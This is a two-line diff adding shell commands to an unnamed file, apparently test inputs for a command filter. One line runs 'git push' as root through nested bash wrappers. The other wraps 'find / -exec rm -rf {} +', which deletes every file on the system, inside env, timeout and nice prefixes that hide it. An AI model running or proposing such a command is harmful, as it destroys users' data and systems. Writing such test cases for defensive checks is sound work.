@@ -1,0 +1,2 @@
+sudo -u root bash -lc "bash -c 'git status && git push'"
+env A=1 timeout 5 nice -n 3 find / -exec rm -rf {} +
